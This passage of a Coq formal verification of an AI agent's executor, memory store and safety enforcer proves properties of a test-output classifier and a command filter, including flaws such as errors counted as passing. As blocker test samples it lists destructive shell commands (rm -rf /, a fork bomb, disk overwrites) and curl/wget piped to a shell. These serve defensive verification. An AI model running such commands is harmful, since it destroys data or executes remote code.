  c st = (Ret a, st') /\ report st' = report st /\ goal st' = goal st.

(** A computation that leaves the report alone, whether it returns or
    raises. *)
Definition quiet (A : Type) (c : @M W A) : Prop :=
  forall st, exists o st', c st = (o, st') /\ report st' = report st.

(** A repair attempt returns, the report and the goal untouched, or raises
    in the state it started from. *)
Definition keeps_or_raises (c : @M W bool) (st : @pstate W) : Prop :=
  (exists b st', keeps c st b st') \/ (exists e, c st = (Raise e, st)).

(** How the repair stage can end. *)
Inductive repair_end (st : @pstate W) : outcome bool * @pstate W -> Prop :=
| repaired (d : str) (st' : @pstate W) :
    report st' = push_stage (stage_of repair ok d None) (report st) ->
    repair_end st (Ret true, st')
| given_up (d : str) (st' : @pstate W) :
    report st' = push_stage (stage_of repair fail d None) (report st) ->
    repair_end st (Ret false, st')
| broken (e : exn) (st' : @pstate W) :
    report st' = report st ->
    repair_end st (Raise e, st').

(** The four ways a run of the stages can end once its check has run. *)
Inductive run_end (st : @pstate W) : outcome unit * @pstate W -> Prop :=
| passed_at_once (d1 d2 d3 d4 : str) (c : option str) (st' : @pstate W) :
    stages (report st') =
      stages (report st) ++
      [stage_of setup ok d1 None; stage_of codegen ok d2 None;
       stage_of verify ok d3 c; stage_of commit ok d4 None] ->
    success (report st') = true ->
    run_end st (Ret tt, st')
| passed_after_repair (d1 d2 d3 d4 d5 : str) (c : option str) (st' : @pstate W) :
    stages (report st') =
      stages (report st) ++
      [stage_of setup ok d1 None; stage_of codegen ok d2 None;
       stage_of verify fail d3 c; stage_of repair ok d4 None;
       stage_of commit ok d5 None] ->
    success (report st') = true ->
    run_end st (Ret tt, st')
| failed_after_repair (d1 d2 d3 d4 : str) (c : option str) (st' : @pstate W) :
    stages (report st') =
      stages (report st) ++
      [stage_of setup ok d1 None; stage_of codegen ok d2 None;
       stage_of verify fail d3 c; stage_of repair fail d4 None] ->
    success (report st') = success (report st) ->
    run_end st (Ret tt, st')
| raised_in_repair (d1 d2 d3 : str) (c : option str) (e : exn) (st' : @pstate W) :
    stages (report st') =
      stages (report st) ++
      [stage_of setup ok d1 None; stage_of codegen ok d2 None;
       stage_of verify fail d3 c] ->
    success (report st') = success (report st) ->
    run_end st (Raise e, st').

(** The two ways a run can end before its check has run: an exception in
    the code generation, or in the verification. *)
Inductive run_end_early (st : @pstate W) : outcome unit * @pstate W -> Prop :=
| raised_in_codegen (d1 : str) (e : exn) (st' : @pstate W) :
    stages (report st') = stages (report st) ++ [stage_of setup ok d1 None] ->
    success (report st') = success (report st) ->
    run_end_early st (Raise e, st')
| raised_in_verify (d1 d2 : str) (e : exn) (st' : @pstate W) :
    stages (report st') =
      stages (report st) ++
      [stage_of setup ok d1 None; stage_of codegen ok d2 None] ->
    success (report st') = success (report st) ->
    run_end_early st (Raise e, st').

End Effects.

(** One command for each forbidden pattern, in the order of the list. *)
Definition blocked_samples : list str := [
  u "rm -rf /"; u "sudo RM  -rf /*"; u ":(){ :|:& };:"; u "dd if=/dev/zero of=/dev/sda";
  u "mkfs.ext4 /dev/sda1"; u "echo x > /dev/sda"; u "mv / /tmp"; u "chmod -R 777 / ";
  u "wget http://x/i.sh -O- | sh"; u "curl -s http://x/i.sh |bash";
  u "python3 -c 'import os; os.system(cmd)  # rm'"
].

(** What a call of [record_success] is about: the description and the
    approach of the entry it appends. *)
Definition key (p : Mem.Pattern) : str * list str := (Mem.goal p, Mem.approach p).

(** One call after another on a list of patterns: append, keep the last 100. *)
Definition capped (l : list Mem.Pattern) (entries : list Mem.Pattern) : list Mem.Pattern :=
  fold_left (fun acc entry => slice_last 100 (acc ++ [entry])) entries l.

(** A call on the store, and calls one after another. *)
Inductive Op :=
| RecordAction (action_type details : str) (success : bool)
| RegisterProject (name path description language : str)
| UpdateProject (name : str) (kwargs : list Mem.Field)
| RecordSuccess (goal_description : str) (approach : list str)
| RecordFailure (goal_description : str) (approach : list str) (error : str).

Section Calls.
Context {W : Type} {Sys : System W}.
Context {CState : Mem.Codec Mem.State}
        {CProjects : Mem.Codec (list (str * Mem.Project))}
        {CPatterns : Mem.Codec Mem.Patterns} {CEntry : Mem.Codec Mem.HistoryEntry}.

Definition call (m : Mem.Memory) (op : Op) (w : W) : Mem.Memory * W :=
  match op with
  | RecordAction t d s => Mem.record_action m t d s w
  | RegisterProject n p d l => Mem.register_project m n p d l w
  | UpdateProject n kwargs => Mem.update_project m n kwargs w
  | RecordSuccess d a => Mem.record_success m d a w
  | RecordFailure d a e => Mem.record_failure m d a e w
  end.

Fixpoint calls (m : Mem.Memory) (ops : list Op) (w : W) : Mem.Memory * W :=
  match ops with
  | [] => (m, w)
  | op :: rest => let (m', w') := call m op w in calls m' rest w'
  end.

End Calls.

Definition is_action (op : Op) : bool :=
  match op with RecordAction _ _ _ => true | _ => false end.

Definition is_success (op : Op) : bool :=
  match op with RecordSuccess _ _ => true | _ => false end.

Definition is_failure (op : Op) : bool :=
  match op with RecordFailure _ _ _ => true | _ => false end.

Definition number_of (f : Op -> bool) (ops : list Op) : Z :=
  Z.of_nat (length (filter f ops)).

(** The name of the last registration among the calls, after [before]. *)
Definition last_registered (before : option str) (ops : list Op) : option str :=
  fold_left (fun acc op => match op with
                           | RegisterProject n _ _ _ => Some n
                           | _ => acc
                           end) ops before.

(** The names the calls register. *)
Definition registered (ops : list Op) : list str :=
  flat_map (fun op => match op with
                      | RegisterProject n _ _ _ => [n]
                      | _ => []
                      end) ops.

(** The books of the store after calls [ops], against the ones before. *)
Definition books (m : Mem.Memory) (ops : list Op) (m' : Mem.Memory) : Prop :=
  (Mem.memory_dir m', Mem.state_file m', Mem.history_file m', Mem.projects_file m',
   Mem.patterns_file m')
  = (Mem.memory_dir m, Mem.state_file m, Mem.history_file m, Mem.projects_file m,
     Mem.patterns_file m)
  /\ Mem.boot_count (Mem.state m') = Mem.boot_count (Mem.state m)
  /\ Mem.last_boot (Mem.state m') = Mem.last_boot (Mem.state m)
  /\ Mem.total_commands_executed (Mem.state m') =
     (Mem.total_commands_executed (Mem.state m) + number_of is_action ops)%Z
  /\ Mem.total_goals_completed (Mem.state m') =
     (Mem.total_goals_completed (Mem.state m) + number_of is_success ops)%Z
  /\ Mem.total_goals_failed (Mem.state m') =
     (Mem.total_goals_failed (Mem.state m) + number_of is_failure ops)%Z
  /\ Mem.last_active_project (Mem.state m') =
     last_registered (Mem.last_active_project (Mem.state m)) ops
  /\ (forall n, In n (map fst (Mem.projects m')) <->
                In n (map fst (Mem.projects m)) \/ In n (registered ops))
  /\ (length (Mem.successful_patterns (Mem.patterns m)) <= 100 ->
      length (Mem.successful_patterns (Mem.patterns m')) <= 100)
  /\ (length (Mem.failed_patterns (Mem.patterns m)) <= 100 ->
      length (Mem.failed_patterns (Mem.patterns m')) <= 100).

(** A marker of [detect_project_type] is present among the names of a
    directory: a name of the directory, or for a marker [*ext] a name that
    ends with [ext]. *)
Definition marker_present (files : list str) (marker : str) : Prop :=
  match marker with
  | 42%N :: ext => exists f, In f files /\ has_suffix f ext
  | _ => In marker files
  end.

(** The kinds [detect_project_type] finds in a listing. *)
Definition found_in (files : list str) : list str :=
  flat_map (fun '(ptype, markers) =>
              if existsb (Tools.marker_found files) markers then [ptype] else [])
           Tools.indicators.

(** The tool of an answer, and the calls [execute_tool_calls] answers
    without calling any tool: a name outside the registry, or a [run] whose
    command the sanitizer rejects. *)
Definition answer_tool (a : Answer) : option str :=
  match a with
  | Error t _ => t
  | Result t _ => t
  end.

Definition refusal {U : UnicodeDB} (call : Call) : option Answer :=
  match c_tool call with
  | None => Some (Error None (u "unknown tool"))
  | Some name =>
      if negb (existsb (str_eqb name) Tools.TOOL_NAMES)
      then Some (Error (Some name) (u "unknown tool"))
      else if str_eqb name (u "run") then
        match command_of (get (c_args call) (Json.JObject [])) with
        | Ret cmd =>
            if Enforce.is_safe_command cmd then None
            else Some (Error (Some name) (u "blocked by safety"))
        | Raise _ => None
        end
      else None
  end.

End Notions.

(* ================================================================== *)
(** * A small world for closed examples *)
(* ================================================================== *)

Module Sample.
Import PyStr Re Py Json OS.

(** A Unicode database with nothing from U+0180 on. *)
Definition latin_only : UnicodeDB :=
  {| uni_tolower := fun c => c;
     uni_fixes := fun _ => [];
     uni_isalnum := fun _ => false;
     uni_isdecimal := fun _ => false;
     uni_lower := fun s => s |}.

(** A decoder that accepts the empty object only. *)
Definition tiny_json : JsonLib :=
  {| loads := fun s => if str_eqb s (u "{}") then Some (JObject []) else None |}.

(** A world that is a file system, path to content, with a clock; every
    directory can be made and every file written; each command exits with
    code 0 and prints what [prints] says. *)
Record world := {
  files : list (str * str);
  clock : Z
}.

Fixpoint lookup (p : str) (fs : list (str * str)) : option str :=
  match fs with
  | [] => None
  | (k, v) :: fs' => if str_eqb k p then Some v else lookup p fs'
  end.

Definition store (p : str) (c : str) (w : world) : world :=
  {| files := (p, c) :: files w; clock := clock w |}.

Definition printing (prints : str -> str) : System world :=
  {| exists_ := fun p w => match lookup p (files w) with Some _ => true | None => false end;
     isdir := fun _ _ => false;
     getmtime := fun _ _ => None;
     listdir := fun _ _ => inl [];
     makedirs := fun _ w => (None, w);
     write_text := fun p c w => (None, store p c w);
     append_text := fun p c w =>
       (None, store p (match lookup p (files w) with Some old => old | None => [] end ++ c) w);
     read_text := fun p w =>
       match lookup p (files w) with Some c => Content c | None => FileNotFound end;
     subprocess_run := fun cmd _ _ w => (Completed 0 (prints cmd) [], w);
     time_time := fun w => (clock w, {| files := files w; clock := clock w + 1 |}) |}.

Definition empty_world : world := {| files := []; clock := 0 |}.

(** [os.remove] in that world: the file is gone, or was not there. *)
Definition unlinking : Remover world :=
  {| remove := fun p w =>
       match lookup p (files w) with
       | Some _ =>
           (None, {| files := filter (fun kv => negb (str_eqb (fst kv) p)) (files w);
                     clock := clock w |})
       | None => (Some (u "[Errno 2] No such file or directory: '" ++ p ++ u "'"), w)
       end |}.

(** A registry whose tools all answer with their own name. *)
Definition echoing : Tools.Registry world :=
  {| Tools.invoke := fun name _ w => (inl name, w) |}.

(** A codec of history entries that writes the type of the entry only. *)
Definition type_codec : Mem.Codec Mem.HistoryEntry :=
  {| Mem.dump := fun e => Mem.h_type e;
     Mem.load := fun s =>
       match s with
       | [] => None
       | _ => Some {| Mem.h_timestamp := 0%Z; Mem.h_type := s; Mem.h_details := [];
                      Mem.h_success := true |}
       end |}.

(** A store as its first boot leaves it. *)
Definition fresh_memory : Mem.Memory :=
  {| Mem.memory_dir := u "/ai/memory"; Mem.state_file := u "/ai/memory/state.json";
     Mem.history_file := u "/ai/memory/history.jsonl";
     Mem.projects_file := u "/ai/memory/projects.json";
     Mem.patterns_file := u "/ai/memory/patterns.json";
     Mem.state := Mem.default_state; Mem.projects := [];
     Mem.patterns := Mem.default_patterns |}.

(** A codec that writes nothing and finds every file corrupt. *)
Definition no_codec (A : Type) : Mem.Codec A :=
  {| Mem.dump := fun _ => []; Mem.load := fun _ => None |}.

(** A goal with one template file, and where it is built. *)
Definition demo_goal (test_cmd : string) : Executor.Goal :=
  {| Executor.g_name := Some (u "demo");
     Executor.g_description := Some (u "a demo project");
     Executor.g_files := Some [(u "main.py", u "print(1)" ++ nl)];
     Executor.g_test_cmd := Some (JString (u test_cmd)) |}.

Definition demo_path : str := u "/projects/demo".

(** A goal that leaves its files to the backend, and a backend that is
    available, plans what it is told to and writes no code. *)
Definition bare_goal : Executor.Goal :=
  {| Executor.g_name := Some (u "demo");
     Executor.g_description := Some (u "a demo project");
     Executor.g_files := None;
     Executor.g_test_cmd := None |}.

Definition planning (plan : json) : Executor.LLM world :=
  {| Executor.is_available := true;
     Executor.generate_project_plan := fun _ w => (plan, w);
     Executor.generate_code := fun _ _ w => (None, w);
     Executor.generate_fix := fun _ _ _ w => (None, w) |}.

(** What a failing check prints for an undefined name, and for a syntax
    error. *)
Definition name_error_output : str :=
  u "Traceback (most recent call last):" ++ nl ++
  u "  File " ++ dq ++ u "main.py" ++ dq ++ u ", line 1, in <module>" ++ nl ++
  u "NameError: name 'x' is not defined" ++ nl.

Definition syntax_error_output : str :=
  u "  File " ++ dq ++ u "main.py" ++ dq ++ u ", line 3" ++ nl ++
  u "    x = = 1" ++ nl ++
  u "        ^" ++ nl ++
  u "SyntaxError: invalid syntax" ++ nl.

End Sample.

(* ================================================================== *)
(** * Properties of the string functions *)
(* ================================================================== *)

Module PyStrFacts.
Import PyStr Notions.

Lemma startswith_spec (s p : str) : startswith s p = true <-> has_prefix s p.
Proof.
  revert s; induction p as [|x p IH]; intros s; simpl.
  - split; [intros _; now exists s | reflexivity].
  - destruct s as [|y s].
    + split; [discriminate | intros [b Hb]; discriminate].
    + rewrite andb_true_iff, N.eqb_eq, IH. split.
      * intros [-> [b ->]]. now exists b.
      * intros [b Hb]. injection Hb as -> ->. split; [reflexivity | now exists b].
Qed.

Lemma str_in_spec (p s : str) : str_in p s = true <-> occurs_in p s.
Proof.
  induction s as [|y s IH]; simpl.
  - rewrite orb_false_r, startswith_spec. split.
    + intros [b Hb]. now exists [], b.
    + intros [a [b Hab]]. destruct a; [now exists b | discriminate].
  - rewrite orb_true_iff, startswith_spec, IH. split.
    + intros [[b Hb] | [a [b Hab]]].
      * now exists [], b.
      * exists (y :: a), b. now rewrite Hab.
    + intros [a [b Hab]]. destruct a as [|z a].
      * left. now exists b.
      * right. injection Hab as _ ->. now exists a, b.
Qed.

Lemma endswith_spec (s p : str) : endswith s p = true <-> has_suffix s p.
Proof.
  unfold endswith. rewrite startswith_spec. split.
  - intros [b Hb]. exists (rev b).
    rewrite <- (rev_involutive s), Hb, rev_app_distr. now rewrite rev_involutive.
  - intros [a ->]. exists (rev a). apply rev_app_distr.
Qed.

Lemma str_in_false (p s : str) : str_in p s = false <-> ~ occurs_in p s.
Proof.
  rewrite <- str_in_spec. destruct (str_in p s); split; intros H; easy.
Qed.

Lemma str_eqb_eq (a b : str) : str_eqb a b = true <-> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl; try easy.
  rewrite andb_true_iff, N.eqb_eq, IH. split.
  - now intros [-> ->].
  - intros H. injection H as -> ->. easy.
Qed.

Lemma in_firstn (A : Type) (x : A) (n : nat) (l : list A) :
  In x (firstn n l) -> In x l.
Proof.
  revert l; induction n as [|n IH]; intros [|y l]; simpl; try easy.
  intros [H | H]; [now left | right; now apply IH].
Qed.

(** ** Trimming *)

Lemma lstrip_unspaced (s : str) : starts_unspaced (lstrip s).
Proof.
  induction s as [|c s IH]; simpl; [exact I|].
  destruct (isspace c) eqn:E; [exact IH | exact E].
Qed.

Lemma lstrip_fixed (s : str) : starts_unspaced s -> lstrip s = s.
Proof. destruct s as [|c s]; simpl; [reflexivity|]. now intros ->. Qed.

Lemma lstrip_snoc (s : str) (c : char) :
  isspace c = false -> lstrip (s ++ [c]) = lstrip s ++ [c].
Proof.
  intros Hc. induction s as [|d s IH]; simpl.
  - now rewrite Hc.
  - destruct (isspace d); [exact IH | reflexivity].
Qed.

Lemma rstrip_cons (c : char) (s : str) :
  isspace c = false -> rstrip (c :: s) = c :: rstrip s.
Proof.
  intros Hc. unfold rstrip. simpl rev.
  rewrite (@lstrip_snoc (rev s) c Hc), rev_app_distr. reflexivity.
Qed.

Lemma rstrip_unspaced (s : str) : starts_unspaced s -> starts_unspaced (rstrip s).
Proof.
  destruct s as [|c s]; simpl; [intros _; exact I|].
  intros Hc. rewrite (@rstrip_cons c s Hc). exact Hc.
Qed.

Lemma rstrip_idempotent (s : str) : rstrip (rstrip s) = rstrip s.
Proof.
  unfold rstrip. rewrite rev_involutive. f_equal.
  apply lstrip_fixed, lstrip_unspaced.
Qed.

Lemma strip_unspaced (s : str) : starts_unspaced (strip s).
Proof. apply rstrip_unspaced, lstrip_unspaced. Qed.

(** Trimming a trimmed string changes nothing. *)
Lemma strip_idempotent (s : str) : strip (strip s) = strip s.
Proof.
  unfold strip at 1. rewrite (@lstrip_fixed (strip s) (strip_unspaced s)).
  unfold strip. apply rstrip_idempotent.
Qed.

Lemma startswith_nonempty (s p : str) : startswith s p = true -> p <> [] -> s <> [].
Proof. destruct p; [easy|]. destruct s; [discriminate | easy]. Qed.

End PyStrFacts.

(* ================================================================== *)
(** * The failure classifier *)
(* ================================================================== *)

Module ClassifierFacts.
Import PyStr Notions Executor PyStrFacts.

(** The success test of the classifier, read as a proposition. *)
Lemma success_marker_found (s : str) :
  occurs_in (u "OK") s \/ occurs_in (u "passed") s \/ has_suffix (strip s) (u "0") ->
  str_in (u "OK") s || str_in (u "passed") s || endswith (strip s) (u "0") = true.
Proof.
  intros [H | [H | H]].
  - apply str_in_spec in H. now rewrite H.
  - apply str_in_spec in H. rewrite H. now rewrite orb_true_r.
  - apply endswith_spec in H. rewrite H. now rewrite orb_true_r.
Qed.

(** C1.  A check output that holds a success marker (the text OK, the text
    passed, or a last character 0 once trimmed) and does not hold the text
    Traceback is classified as passing, whatever failure indicators it also
    holds; the output "3 tests, 1 error, OK" is classified as passing. *)
Theorem success_marker_precedence :
  (forall s : str,
      occurs_in (u "OK") s \/ occurs_in (u "passed") s \/ has_suffix (strip s) (u "0") ->
      ~ occurs_in (u "Traceback") s ->
      _is_test_failure (Some s) = false)
  /\ _is_test_failure (Some (u "3 tests, 1 error, OK")) = false.
Proof.
  split; [|reflexivity].
  intros s Hok Hno. unfold _is_test_failure.
  rewrite (success_marker_found Hok).
  apply str_in_false in Hno. now rewrite Hno.
Qed.

(** The precedence rule at an output that names two failure indicators. *)
Lemma success_marker_precedence_witness :
  _is_test_failure
    (Some (u "test_error_handling ... FAILED to raise ValueError: 2 passed")) = false.
Proof.
  apply (proj1 success_marker_precedence).
  - right; left.
    exists (u "test_error_handling ... FAILED to raise ValueError: 2 "), [].
    reflexivity.
  - apply str_in_false. vm_compute. reflexivity.
Defined.

(** C9.  An absent check output is classified as failing. *)
Theorem absent_output_is_failure : _is_test_failure None = true.
Proof. reflexivity. Qed.

End ClassifierFacts.

(* ================================================================== *)
(** * The safety enforcer *)
(* ================================================================== *)

Module EnforceFacts.
Import PyStr Re Notions Enforce PyStrFacts.

Section WithUnicode.
Context {U : UnicodeDB}.

(** Substituting nothing for a one-character pattern filters the text. *)
Lemma sub_one_atom (fl : flags) (a : atom) (t : str) (p : nat) :
  sub_from fl (One a) [] p t 0 = filter (fun c => negb (atom_match fl a c)) t.
Proof.
  revert p; induction t as [|c t IH]; intros p; cbn -[Nat.sub].
  - reflexivity.
  - destruct (atom_match fl a c); cbn -[Nat.sub].
    + replace (S p - p) with 1 by lia. apply IH.
    + f_equal. apply IH.
Qed.

(** The characters [sanitize_input] removes. *)
Lemma control_class (c : char) :
  atom_match NOFLAG (Cls false [IRange 0 8; ILit 11; ILit 12; IRange 14 31; ILit 127]) c
  = ascii_control c && negb (tab_lf_cr c).
Proof.
  unfold atom_match, item_match, lit_match, ascii_control, tab_lf_cr, in_range,
    TAB, LF, CR; simpl.
  repeat match goal with
         | |- context [(?a <=? ?b)%N] => destruct (N.leb_spec a b)
         | |- context [(?a <? ?b)%N] => destruct (N.ltb_spec a b)
         | |- context [(?a =? ?b)%N] => destruct (N.eqb_spec a b)
         end; simpl; try reflexivity; lia.
Qed.

Lemma sanitize_input_filter (text : str) :
  sanitize_input text =
  firstn 4096 (filter (fun c => negb (ascii_control c) || tab_lf_cr c) text).
Proof.
  unfold sanitize_input. destruct text as [|c t]; [reflexivity|].
  unfold slice_to, sub, CONTROL, pat. rewrite sub_one_atom. f_equal.
  apply filter_ext. intros x. rewrite control_class.
  now destruct (ascii_control x), (tab_lf_cr x).
Qed.

Lemma safe_against_found (patterns : list regex) (command : str) (p : regex) :
  In p patterns -> found p command = true -> safe_against patterns command = false.
Proof.
  induction patterns as [|q rest IH]; simpl; [easy|].
  intros [-> | Hin] Hp.
  - now rewrite Hp.
  - destruct (found q command); [reflexivity | now apply IH].
Qed.

Lemma safe_against_false (patterns : list regex) (command : str) :
  safe_against patterns command = false ->
  exists p, In p patterns /\ found p command = true.
Proof.
  induction patterns as [|q rest IH]; simpl; [discriminate|].
  destruct (found q command) eqn:Hq.
  - intros _. exists q. auto.
  - intros H. destruct (IH H) as [p [Hin Hp]]. exists p. auto.
Qed.

End WithUnicode.

(** X16.  [sanitize_input] removes the ASCII control characters
    other than tab, newline and carriage return, keeps every other character
    in order, and truncates what is left to its first 4096 characters; so no
    result is longer than 4096, a result holds no ASCII control character but
    tab, newline and carriage return, and on a 5000-character input the result
    is the first 4096 characters of the input without its removed characters
    (exactly 4096 characters when that many are left, and the first 4096 of
    the input itself when it holds none to remove). *)
Theorem sanitize_input_spec (U : UnicodeDB) (text : str) :
  let kept := fun c => negb (ascii_control c) || tab_lf_cr c in
  sanitize_input text = firstn 4096 (filter kept text)
  /\ length (sanitize_input text) <= 4096
  /\ (forall c, In c (sanitize_input text) -> ascii_control c = true -> tab_lf_cr c = true)
  /\ (length text = 5000 -> 4096 <= length (filter kept text) ->
      length (sanitize_input text) = 4096)
  /\ (length text = 5000 -> forallb kept text = true ->
      sanitize_input text = firstn 4096 text).
Proof.
  intros kept. pose proof (sanitize_input_filter text) as E. fold kept in E.
  split; [|split; [|split; [|split]]].
  - exact E.
  - rewrite E. apply firstn_le_length.
  - intros c Hin Hc. rewrite E in Hin. apply in_firstn, filter_In in Hin.
    destruct Hin as [_ Hk]. unfold kept in Hk. now rewrite Hc in Hk.
  - intros _ Hlen. rewrite E, length_firstn. lia.
  - intros _ Hall. rewrite E. f_equal.
    clear E. induction text as [|c t IH]; [reflexivity|].
    simpl in Hall |- *. apply andb_true_iff in Hall as [Hc Ht].
    rewrite Hc. f_equal. now apply IH.
Qed.

(** A 5000-character input: two control characters, then 4998 letters. *)
Lemma sanitize_input_spec_witness :
  let text := [0; 7]%N ++ repeat 97%N 4998 in
  length (sanitize_input (U := Sample.latin_only) text) = 4096.
Proof.
  intros text.
  apply (proj1 (proj2 (proj2 (proj2 (sanitize_input_spec Sample.latin_only text))))).
  - vm_compute. reflexivity.
  - apply Nat.leb_le. vm_compute. reflexivity.
Defined.

(** C5 fails on the code.  A tab is an ASCII control character other
    than newline, and [sanitize_input] keeps it: the text a, tab, b comes
    back as it went in, where the claim, and the function's own comment, have
    every control character but the newline removed. *)
Lemma sanitize_input_keeps_tab :
  let out := sanitize_input (U := Sample.latin_only) (u "a" ++ [TAB] ++ u "b") in
  out = u "a" ++ [TAB] ++ u "b"
  /\ exists c, In c out /\ ascii_control c = true /\ c <> LF.
Proof.
  split; [reflexivity|].
  exists TAB. split; [right; left; reflexivity|]. split; [reflexivity | discriminate].
Qed.

(** C7.  A command in which one of the forbidden patterns is found is not
    safe (and a command that is not safe is one in which a forbidden pattern is
    found); a sample command of each kind is not safe; the command echo hi is
    safe. *)
Theorem forbidden_commands_are_unsafe (U : UnicodeDB) :
  (forall command p,
      In p FORBIDDEN_PATTERNS -> found p command = true ->
      is_safe_command command = false)
  /\ (forall command,
        is_safe_command command = false ->
        exists p, In p FORBIDDEN_PATTERNS /\ found p command = true)
  /\ forallb (fun command => negb (is_safe_command command)) blocked_samples = true
  /\ is_safe_command (u "echo hi") = true.
Proof.
  split; [|split; [|split]].
  - intros command p. apply safe_against_found.
  - intros command. apply safe_against_false.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Qed.

(** The first pattern is found in the command that deletes the root. *)
Lemma forbidden_commands_are_unsafe_witness :
  is_safe_command (U := Sample.latin_only) (u "rm -rf /") = false.
Proof.
  apply (proj1 (forbidden_commands_are_unsafe Sample.latin_only)
           (u "rm -rf /") (nth 0 FORBIDDEN_PATTERNS Eps)).
  - left. reflexivity.
  - vm_compute. reflexivity.
Defined.

Lemma unprotected_false (protected : list str) (path : str) :
  unprotected protected path = false <->
  exists p, In p protected /\ has_prefix path p.
Proof.
  induction protected as [|q rest IH]; simpl.
  - split; [discriminate | intros [p [[] _]]].
  - destruct (startswith path q) eqn:Hq.
    + split; [|reflexivity]. intros _. exists q. split; [now left|].
      now apply startswith_spec.
    + rewrite IH. split.
      * intros [p [Hin Hp]]. exists p. auto.
      * intros [p [[<- | Hin] Hp]].
        -- apply startswith_spec in Hp. congruence.
        -- exists p. auto.
Qed.

Lemma has_valid_prefix_spec (prefixes : list str) (text : str) :
  has_valid_prefix prefixes text = true <->
  exists p, In p prefixes /\ has_prefix text p.
Proof.
  induction prefixes as [|q rest IH]; simpl.
  - split; [discriminate | intros [p [[] _]]].
  - destruct (startswith text q) eqn:Hq.
    + split; [|reflexivity]. intros _. exists q. split; [now left|].
      now apply startswith_spec.
    + rewrite IH. split.
      * intros [p [Hin Hp]]. exists p. auto.
      * intros [p [[<- | Hin] Hp]].
        -- apply startswith_spec in Hp. congruence.
        -- exists p. auto.
Qed.

Lemma marked_nonempty (t p : str) :
  In p (u "{" :: u "[" :: VALID_PREFIXES) -> has_prefix t p -> t <> [].
Proof.
  intros Hin [b ->]. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]; [discriminate|]). destruct Hin.
Qed.

(** What [enforce_output_only] lets through: the trimmed text, when it
    starts with one of the markers. *)
Lemma enforce_output_only_some (text t : str) :
  enforce_output_only text = Some t <->
  text <> [] /\ t = strip text
  /\ exists p, In p (u "{" :: u "[" :: VALID_PREFIXES) /\ has_prefix t p.
Proof.
  unfold enforce_output_only. destruct text as [|c text'].
  - split; [discriminate | intros [H _]; now destruct H].
  - set (text := c :: text'). set (s := strip text).
    assert (Htool : startswith s (u "TOOL:") = true ->
                    has_valid_prefix VALID_PREFIXES s = true).
    { intros H. apply has_valid_prefix_spec. exists (u "TOOL:").
      split; [now left | now apply startswith_spec]. }
    destruct (startswith s (u "TOOL:")) eqn:E1.
    { split.
      - intros [= <-]. split; [discriminate|]. split; [reflexivity|].
        destruct (proj1 (has_valid_prefix_spec _ _) (Htool eq_refl)) as [p [Hin Hp]].
        exists p. split; [right; right; exact Hin | exact Hp].
      - intros [_ [-> _]]. reflexivity. }
    destruct (startswith s (u "{")) eqn:E2.
    { simpl orb. cbv iota. split.
      - intros [= <-]. split; [discriminate|]. split; [reflexivity|].
        exists (u "{"). split; [now left | now apply startswith_spec].
      - intros [_ [-> _]]. reflexivity. }
    destruct (startswith s (u "[")) eqn:E3.
    { simpl orb. cbv iota. split.
      - intros [= <-]. split; [discriminate|]. split; [reflexivity|].
        exists (u "["). split; [right; now left | now apply startswith_spec].
      - intros [_ [-> _]]. reflexivity. }
    simpl orb. cbv iota.
    destruct (has_valid_prefix VALID_PREFIXES s) eqn:E4.
    { split.
      - intros [= <-]. split; [discriminate|]. split; [reflexivity|].
        destruct (proj1 (has_valid_prefix_spec _ _) E4) as [p [Hin Hp]].
        exists p. split; [right; right; exact Hin | exact Hp].
      - intros [_ [-> _]]. reflexivity. }
    split; [discriminate|].
    intros [_ [-> [p [[<- | [<- | Hin]] Hp]]]].
    + apply startswith_spec in Hp. fold text s in Hp. congruence.
    + apply startswith_spec in Hp. fold text s in Hp. congruence.
    + assert (has_valid_prefix VALID_PREFIXES s = true) as H
        by (apply has_valid_prefix_spec; exists p; auto).
      congruence.
Qed.

Section OutputFilter.
Context {U : UnicodeDB} {J : Json.JsonLib}.

Lemma is_chat_false (patterns : list regex) (stripped : str) :
  is_chat patterns stripped = false ->
  forall p, In p patterns -> match_ IGNORE p stripped = None.
Proof.
  induction patterns as [|q rest IH]; simpl; [intros _ p []|].
  destruct (match_ IGNORE q stripped) eqn:Hq; [discriminate|].
  intros H p [<- | Hin]; [exact Hq | now apply IH].
Qed.

Lemma is_chat_true (patterns : list regex) (stripped : str) (p : regex) :
  In p patterns -> match_ IGNORE p stripped <> None ->
  is_chat patterns stripped = true.
Proof.
  induction patterns as [|q rest IH]; simpl; [easy|].
  intros [<- | Hin] Hp.
  - destruct (match_ IGNORE q stripped); [reflexivity | now destruct Hp].
  - destruct (match_ IGNORE q stripped); [reflexivity | now apply IH].
Qed.

(** The lines [enforce] keeps are lines of the text that are not blank and
    that no conversational pattern matches. *)
Lemma clean_kept (lines : list str) (line : str) :
  In line (clean lines) ->
  In line lines /\ strip line <> []
  /\ forall p, In p CONVERSATIONAL_PATTERNS -> match_ IGNORE p (strip line) = None.
Proof.
  induction lines as [|x rest IH]; cbn [clean In]; [easy|].
  destruct (strip x) as [|c s] eqn:Ex.
  - intros H. destruct (IH H) as [H1 H2]. auto.
  - destruct (is_chat CONVERSATIONAL_PATTERNS (c :: s)) eqn:Ec.
    + intros H. destruct (IH H) as [H1 H2]. auto.
    + intros [<- | H].
      * split; [now left|]. rewrite Ex. split; [discriminate|].
        now apply is_chat_false.
      * destruct (IH H) as [H1 H2]. auto.
Qed.

Lemma clean_nothing (lines : list str) :
  (forall line, In line lines ->
     strip line = []
     \/ exists p, In p CONVERSATIONAL_PATTERNS /\ match_ IGNORE p (strip line) <> None) ->
  clean lines = [].
Proof.
  induction lines as [|x rest IH]; cbn [clean]; [reflexivity|].
  intros H. assert (Hrest : clean rest = []) by (apply IH; intros; apply H; now right).
  destruct (H x (or_introl eq_refl)) as [-> | [p [Hin Hp]]]; [exact Hrest|].
  destruct (strip x) as [|c s]; [exact Hrest|].
  now rewrite (@is_chat_true CONVERSATIONAL_PATTERNS (c :: s) p Hin Hp).
Qed.

Lemma by_line_some (t r : str) :
  by_line t = Some r ->
  r <> [] /\ r = strip (join nl (clean (split_on LF t))).
Proof.
  unfold by_line. destruct (clean (split_on LF t)) as [|x rest]; [discriminate|].
  destruct (strip (join nl (x :: rest))) as [|c s]; [discriminate|].
  intros [= <-]. split; [discriminate | reflexivity].
Qed.

Lemma enforce_unfold (text : str) :
  text <> [] ->
  enforce text =
  let t := strip text in
  if startswith t (u "TOOL:") then Some t
  else if (startswith t (u "{") || startswith t (u "[")) && is_json t then Some t
  else if has_valid_prefix VALID_PREFIXES t then Some t
